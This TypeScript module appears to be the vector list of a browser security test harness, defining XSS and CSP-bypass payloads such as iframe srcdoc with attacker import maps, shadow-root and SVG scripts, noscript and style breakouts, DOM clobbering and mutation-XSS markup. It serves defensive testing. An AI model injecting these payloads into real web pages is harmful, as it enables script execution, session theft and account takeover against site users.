import type { Vector } from '../vector.ts'

const body = (id: string, what: string, markup: string, more: Partial<Vector> = {}): Vector => ({
  id,
  what,
  markup,
  at: 'body-end',
  ...more,
})

/** Documents in documents, other namespaces, inert trees, and markup that the parser reads otherwise than its author. */
export const documents: readonly Vector[] = [
  body(
    'srcdocUpload',
    '`<iframe srcdoc>` with an uploaded module',
    `<iframe srcdoc='<script type=module src="OWN_JS"></script>'></iframe>`,
  ),
  body(
    'srcdocNested',
    '`<iframe srcdoc>` in an `<iframe srcdoc>`',
    `<iframe srcdoc="<iframe srcdoc='<script>MARK</script>'></iframe>"></iframe>`,
  ),
  body(
    'srcdocBase',
    '`<iframe srcdoc>` with a `<base>`',
    `<iframe srcdoc='<base href="EVIL/up/"><script src="ID.js"></script>'></iframe>`,
  ),
  body(
    'srcdocPolicy',
    '`<iframe srcdoc>` with a policy of its own that allows all',
    `<iframe srcdoc='<meta http-equiv=Content-Security-Policy content="script-src * &apos;unsafe-inline&apos;"><script>MARK</script>'></iframe>`,
  ),
  body(
    'srcdocSandbox',
    '`<iframe sandbox="allow-scripts allow-same-origin" srcdoc>`',
    '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>MARK</script>"></iframe>',
  ),
  body('srcdocHandler', '`<iframe srcdoc>` with a handler', '<iframe srcdoc="<svg onload=MARK>"></iframe>'),
  body(
    'srcdocImportMap',
    "`<iframe srcdoc>`: the app again, its import map the attacker's",
    `<iframe srcdoc='<script type=importmap>{"imports":{"STATIC_CHUNK":"EVIL/mod/ID.js"}}</script><script type=module crossorigin src="ENTRY_CHUNK"></script>'></iframe>`,
  ),
  body(
    'srcdocSwallowed',
    '`<iframe srcdoc>` with a modulepreload of an uploaded file',
    `<iframe srcdoc='<link rel=modulepreload href="OWN_JS"><script type=module src="OWN_JS"></script>'></iframe>`,
  ),
  body(
    'shadowScript',
    'a script in a declarative shadow root',
    '<div><template shadowrootmode=open><script>MARK</script></template></div>',
  ),
  body(
    'shadowModule',
    'a foreign module in a declarative shadow root',
    '<div><template shadowrootmode=open><script type=module crossorigin src="EVIL_JS"></script></template></div>',
  ),
  body(
    'shadowHandler',
    'a handler in a declarative shadow root',
    '<div><template shadowrootmode=open><img src=missing.png onerror=MARK></template></div>',
  ),
  body(
    'templateScript',
    'a `<template>` that the app clones',
    '<template id=card><script>MARK</script></template>',
    { hash: 'clone=%23card' },
  ),
  body(
    'templateEvil',
    'the same with a foreign script',
    '<template id=card><script src="EVIL_JS"></script></template>',
    { hash: 'clone=%23card' },
  ),
  body(
    'templateHandler',
    'the same with a handler',
    '<template id=card><img src=missing.png onerror=MARK></template>',
    { hash: 'clone=%23card' },
  ),
  body('svgCdata', '`<svg><script>` in CDATA', '<svg><script><![CDATA[MARK]]></script></svg>'),
  body(
    'svgEntities',
    '`<svg><script>` in character references',
    '<svg><script>&#118;oid(top.ran.ID&equals;1)</script></svg>',
  ),
  body(
    'svgXlink',
    '`<svg><script xlink:href>`, foreign',
    '<svg><script xlink:href="EVIL_JS"></script></svg>',
  ),
  body('svgScriptData', '`<svg><script href="data:…">`', '<svg><script href="DATA_JS"></script></svg>'),
  body(
    'svgForeign',
    '`<svg><foreignObject>` with a script',
    '<svg><foreignObject><p><script>MARK</script></p></foreignObject></svg>',
  ),
  body('svgTitle', 'a script in `<svg><title>`', '<svg><title><script>MARK</script></title></svg>'),
  body(
    'mathAnnotation',
    'a script in `<math><annotation-xml>`',
    '<math><annotation-xml encoding="text/html"><script>MARK</script></annotation-xml></math>',
  ),
  body(
    'noscriptBreak',
    'out of `<noscript>`',
    '<noscript><p title="</noscript><img src=missing.png onerror=MARK>"></noscript>',
  ),
  {
    id: 'noscriptHead',
    what: 'out of a `<noscript>` in the head',
    at: 'head',
    markup: '<noscript><link title="</noscript><script>MARK</script>"></noscript>',
  },
  body(
    'styleBreak',
    'out of `<style>`',
    '<style><img title="</style><img src=missing.png onerror=MARK>"></style>',
  ),
  body(
    'svgStyle',
    '`<svg><style>`, which holds markup',
    '<svg><style><img src=missing.png onerror=MARK></style></svg>',
  ),
  body(
    'textareaBreak',
    'out of `<textarea>`',
    '<textarea><img title="</textarea><img src=missing.png onerror=MARK>"></textarea>',
  ),
  body('commentBreak', 'out of a comment', '<!--><img src=missing.png onerror=MARK>-->'),
  body(
    'tableFoster',
    'a script foster-parented out of a table',
    '<table><tr><script>MARK</script><b><svg onload=MARK></table>',
  ),
  body(
    'clobber',
    'elements named like what the app reads',
    '<form id=app name=currentScript><input name=currentScript id=integrity><img name=querySelector></form><a id=document href="javascript:MARK"></a>',
    { control: [], breaks: 'markup' },
  ),
  {
    id: 'mathMutation',
    what: 'markup that changes when it is parsed twice',
    at: 'reparse',
    markup: '<form><math><mtext></form><form><mglyph><style></math><img src=missing.png onerror=MARK>',
  },
  {
    id: 'svgMutation',
    what: 'the same with SVG',
    at: 'reparse',
    markup: '<svg></p><style><a id="</style><img src=missing.png onerror=MARK>">',
  },
]
